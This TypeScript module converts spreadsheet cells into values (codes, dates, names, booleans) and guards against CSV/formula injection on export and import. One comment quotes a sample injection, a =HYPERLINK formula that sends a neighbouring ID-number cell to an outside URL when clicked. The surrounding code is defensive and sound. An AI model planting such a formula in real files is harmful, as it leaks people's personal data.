/**
 * Turning office spreadsheet cells into values. Real files carry full-width digits, trailing
 * spaces, ID numbers that Excel stored as (rounded) numbers, and dates as serials or as text.
 */
import { normalizeCode, normalizeName, normalizeText } from '../validation/normalize.js';

/** What a reader hands over: CSV gives strings; .xlsx gives numbers, dates and booleans too. */
export type RawCell = string | number | boolean | Date | null | undefined;

export class CellError extends Error {}

export function isBlank(cell: RawCell): boolean {
  return cell === null || cell === undefined || (typeof cell === 'string' && normalizeText(cell) === '');
}

export function cellText(cell: RawCell): string {
  if (cell === null || cell === undefined) return '';
  if (cell instanceof Date) return cell.toISOString().slice(0, 10);
  return normalizeText(String(cell));
}

/**
 * Spreadsheet formulas hidden in data (CSV or formula injection, OWASP). Excel, WPS and LibreOffice
 * run a CSV cell that starts with = + - or @ as a formula, and some skip a leading tab or CR first:
 * `=HYPERLINK("http://…"&A1,"点我")` beside the ID-number column sends that cell's neighbour away
 * when clicked. On the way out, such text gets a leading ' (OWASP's rule), which spreadsheets show
 * as text; numbers are never touched, so a negative number stays a number.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

export function neutralizeFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/**
 * On the way in, free text (names, addresses, places) may not start with = + or @ nor hold a
 * control character: no person, address or employer is written that way, so it is a formula or
 * a corrupted cell. A leading - stays allowed ("-" is how offices write "none", "-1层" is a floor).
 * Leading tabs and line breaks never get here: cellText folds them away. The ' that exports put
 * before such text is taken off again, so an exported file imports back to the same values.
 */
const FREE_TEXT_FORMULA = /^[=+@]/;
const CONTROL_CHARACTER = /[\u0000-\u001f\u007f]/;

export function cellFreeText(cell: RawCell, field: string): string {
  return checkedFreeText(cellText(cell), field);
}

/** A person's name: free text read before the ideographic spaces are folded, so 赵　六 is 赵六. */
export function cellName(cell: RawCell, field: string): string {
  return checkedFreeText(typeof cell === 'string' ? normalizeName(cell) : cellText(cell), field);
}

function checkedFreeText(typed: string, field: string): string {
  const text = /^'[=+\-@]/.test(typed) ? typed.slice(1) : typed;
  if (FREE_TEXT_FORMULA.test(text)) throw new CellError(`${field}不能以“${text[0]}”开头（可能是公式）`);
  if (CONTROL_CHARACTER.test(text)) throw new CellError(`${field}不能含有控制字符`);
  return text;
}

/**
 * Excel's text marker: an apostrophe typed before digits keeps them text and is hidden in the
 * cell — but a CSV, or a cell already formatted as text, keeps it in the value ('5206…, or ’5206…
 * from a Chinese input method). It is never part of a code.
 */
const TEXT_MARKER = /^['‘’]+/;

/**
 * ID numbers and codes must be text. Excel keeps 15 significant digits, so an 18-digit number
 * has lost its last digits (and its check character): refuse it rather than guess.
 */
export function cellCode(cell: RawCell, field: string): string {
  if (typeof cell === 'number') {
    if (!Number.isSafeInteger(cell)) {
      throw new CellError(`${field}被Excel存成了数字，超过15位的部分已被改为0，无法还原；请把该列设为“文本”格式后重新录入`);
    }
    return String(cell);
  }
  const text = normalizeCode(cellText(cell)).replace(TEXT_MARKER, '');
  if (/^\d+(\.\d+)?E\+\d+$/.test(text)) {
    throw new CellError(`${field}为科学计数法（${text}），已丢失精度；请把该列设为“文本”格式后重新录入`);
  }
  return text;
}

// Excel's day 0 is 1899-12-30 (its 1900 leap-year bug is folded into this epoch).
const EXCEL_EPOCH = Date.UTC(1899, 11, 30);

export function cellDate(cell: RawCell, field: string): string {
  if (cell instanceof Date) return cell.toISOString().slice(0, 10);
  if (typeof cell === 'number') {
    if (cell < 1 || cell > 100000) throw new CellError(`${field}不是有效的日期`);
    return new Date(EXCEL_EPOCH + Math.round(cell) * 86_400_000).toISOString().slice(0, 10);
  }
  const text = normalizeCode(cellText(cell));
  const m = /^(\d{4})[-/.年](\d{1,2})[-/.月](\d{1,2})日?$/.exec(text) ?? /^(\d{4})(\d{2})(\d{2})$/.exec(text);
  if (!m) throw new CellError(`${field}“${text}”不是日期，应为 YYYY-MM-DD`);
  const [y, mo, d] = [Number(m[1]), Number(m[2]), Number(m[3])];
  const date = new Date(Date.UTC(y, mo - 1, d));
  if (date.getUTCMonth() !== mo - 1 || date.getUTCDate() !== d) throw new CellError(`${field}“${text}”不是有效的日期`);
  return date.toISOString().slice(0, 10);
}

export function cellNumber(cell: RawCell, field: string): number {
  if (typeof cell === 'number') return cell;
  const text = normalizeCode(cellText(cell));
  const value = Number(text);
  if (text === '' || !Number.isFinite(value)) throw new CellError(`${field}“${text}”不是数字`);
  return value;
}

export function cellInt(cell: RawCell, field: string): number {
  const value = cellNumber(cell, field);
  if (!Number.isInteger(value)) throw new CellError(`${field}“${value}”须为整数`);
  return value;
}

const YES = new Set(['是', 'Y', 'YES', 'TRUE', '1', '√', '有']);
const NO = new Set(['否', 'N', 'NO', 'FALSE', '0', '×', '无']);

export function cellBool(cell: RawCell, field: string): boolean {
  if (typeof cell === 'boolean') return cell;
  const text = normalizeCode(cellText(cell));
  if (YES.has(text)) return true;
  if (NO.has(text)) return false;
  throw new CellError(`${field}“${text}”须填“是”或“否”`);
}

/** Lists in one cell, separated by the punctuation people actually use. */
export function cellList(cell: RawCell): string[] {
  return cellText(cell)
    .split(/[、,，;；/\s]+/)
    .map((s) => s.trim())
    .filter(Boolean);
}
